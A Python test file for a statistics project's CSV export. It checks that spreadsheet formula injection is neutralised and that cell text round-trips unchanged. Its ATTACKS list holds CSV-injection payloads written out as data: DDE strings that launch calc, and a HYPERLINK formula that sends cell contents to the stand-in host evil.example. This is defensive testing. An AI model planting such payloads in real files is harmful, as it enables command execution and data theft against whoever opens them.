"""CSV files that a spreadsheet opens: none of their text is run, and what is read is what was written."""

import csv
import io
import re
import time
from pathlib import Path

import pandas as pd
import pytest
from conftest import PROJECT, MakeDataset
from hypothesis import example, given
from hypothesis import strategies as st

from edstats.cli import main
from edstats.columns import TABLES, csv_text, read_csv, typed
from edstats.dataset import Dataset, clean_files
from edstats.editions import continued, history_files, read_history
from edstats.spreadsheets import guarded, unguarded

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0dA1",
    "\uff20SUM(1)",
    "words;=1+1",
    'words;"=1+1"',
    'words";=1+1;"',
    "words; =1+1",
    "words\n=1+1",
    "words\t=1+1",
    "-3 schools;=1+1",
    "-A1",
    "+A1",
    "--1",
    "-3 schools (A1)",
    "-1",
    "words;-1",
]
HARMLESS = [
    "",
    "434 schools",
    "-3 schools",
    "+5.2%",
    "\u22120.4",
    "-1 204,5 млн тенге",
    "+0.3 п.п.",
    "akmola-2024",
    "a = b",
    "rose by +5",
    "it's so",
    "'quoted'",
    "mail me@example.org",
    "first; second",
]
PARTS = re.compile(r"[;\t\n\r\v\f\x1c-\x1e\x85\u2028\u2029]")


def formulas(text: str) -> list[str]:
    """What a spreadsheet could take for a formula, cut at every sign at which one may cut."""
    parts = (part.lstrip('" \u00a0\ufeff\u200b') for part in PARTS.split(text))
    number = re.compile(r"[+-]\d[\d.,  ]*(?:%|(?=[^\W\d_]))[^\W\d_ .]*(?:[^\W\d_]|[ .])*")
    return [part for part in parts if part[:1] in tuple("=+-@＝＋－＠") and not number.fullmatch(part)]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_written_as_text_and_read_as_it_was(text: str) -> None:
    assert not formulas(guarded(text)), "a spreadsheet would run it"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_printed_words_that_run_nothing_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\";\t\n\r 1a%.,|!()\ufeff\u200b\u00a0＝－"), max_size=12))
@example("'=")
@example("';'=")
def test_any_text_is_read_back_and_holds_no_formula(text: str) -> None:
    written = guarded(text)
    assert unguarded(written) == text
    assert not formulas(written)
    assert re.sub("'", "", written) == re.sub("'", "", text), "only apostrophes are added"


@pytest.mark.parametrize("text", ["'" * 300_000, ";" * 300_000, "';" * 150_000, "-1" * 150_000, "\t'" * 150_000])
def test_time_grows_in_step_with_the_length_of_hostile_text(text: str) -> None:
    start = time.perf_counter()
    guarded(text)
    unguarded(text)
    assert time.perf_counter() - start < 2


def test_tables_come_back_from_their_files(dataset_of: MakeDataset) -> None:
    dataset = hostile(dataset_of)
    for table in TABLES:
        written = getattr(dataset, table)
        text = csv_text(written)
        assert not cells_that_run(text), table
        pd.testing.assert_frame_equal(read_csv(io.BytesIO(text.encode()), table), written)


def cells_that_run(text: str) -> list[str]:
    """Formulas in a CSV text, its cells parted by commas or, as other settings have it, by semicolons."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [part for cell in cells if not re.fullmatch(r"-?\d+(\.\d+)?", cell) for part in formulas(cell)]


def hostile(dataset_of: MakeDataset) -> Dataset:
    """A data set with a formula in every column that takes free text."""
    printable = [text for text in ATTACKS if re.fullmatch(r"[\n\x20-\x7e]+", text)]
    entries = [
        {"region": "KZ-15", "indicator": "schools_small", "as_printed": text.strip(), "value": str(number),
         "unit": "school", "period": "2024", "place": text.strip(), "note": text.strip(), "programme": text.strip()}
        for number, text in enumerate(printable, start=1)
    ]  # fmt: skip
    sources = [
        {"source": "a", "published": "2024-12-02", "publisher": "=1+1", "title": "@SUM(1)", "licence": "+A1",
         "note": "-A1;=1+1"}
    ]  # fmt: skip
    more = {
        "doubts": [{"source": "a", "figures": "1", "doubt": "=1+1"}],
        "corrections": [
            {"source": "a", "figure": "2", "column": "note", "expected": printable[1], "corrected": "=2+2",
             "reason": "=3+3"}
        ],
        "prices": [{"year": "2024", "average": "-8.7", "source": "=1+1", "note": "@A1"}],
        "translations": [{"text": "=1+1", "ru": "=1+2", "kk": "=1+3"}],
    }  # fmt: skip
    return dataset_of(sources, {"a": entries}, **more)


def test_the_history_of_editions_comes_back_from_its_files(dataset_of: MakeDataset, tmp_path: Path) -> None:
    dataset = hostile(dataset_of)
    before = dataset.observations.assign(note="before")
    history = continued(read_history(tmp_path / "none")[0], None, before, dataset.corrections, dataset.as_of)
    history = continued(history, before, dataset.observations, dataset.corrections, dataset.as_of)
    folder = tmp_path / "reports" / "data"
    folder.mkdir(parents=True)
    files = {**history_files(history), "observations.csv": csv_text(dataset.observations)}
    for name, text in files.items():
        assert not cells_that_run(text), name
        (folder / name).write_text(text, encoding="utf-8", newline="\n")
    read, observations = read_history(folder)
    pd.testing.assert_frame_equal(read.changes, history.changes)
    assert observations is not None
    pd.testing.assert_frame_equal(observations, dataset.observations)
    assert "=2+2" in set(read.changes["after"])


def test_the_projects_own_clean_files_hold_no_apostrophe_for_spreadsheets(project: Dataset) -> None:
    for name, text in clean_files(project):
        assert text.encode() == (PROJECT / "data" / "clean" / name).read_bytes()
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert not [cell for cell in cells if unguarded(cell) != cell], name


def test_the_rows_of_an_extraction_hold_no_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = tmp_path / "=cmd;=1+1.txt"
    document.write_text("There are 434 schools in Aktobe region.\n", encoding="utf-8")
    assert main(["extract", str(document)]) == 0
    written = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert {row["doc"] for row in rows} == {"'=cmd;'=1+1"}
    assert not cells_that_run(written)


def test_a_cell_of_raw_data_that_a_draft_guarded_is_read_without_its_apostrophe(dataset_of: MakeDataset) -> None:
    entry = {"region": "KZ-15", "indicator": "schools_total", "as_printed": "434 schools", "note": "'=so it stands"}
    dataset = dataset_of([{"source": "a", "published": "2024-12-02"}], {"a": [entry]})
    assert list(dataset.observations["note"]) == ["=so it stands"]


@pytest.mark.parametrize("text", ["a\rb", "a\r", "\r", "a\r\nb", "a\nb", "a,\rb", 'a"\rb', "\r=1+1"])
def test_a_text_with_a_carriage_return_stays_one_cell(text: str) -> None:
    table = pd.DataFrame({"source": ["one", "two"], "figures": "", "doubt": [text, "plain"]})
    written = csv_text(typed(table, "doubts"))
    assert read_csv(io.BytesIO(written.encode()), "doubts")["doubt"].tolist() == [text, "plain"]
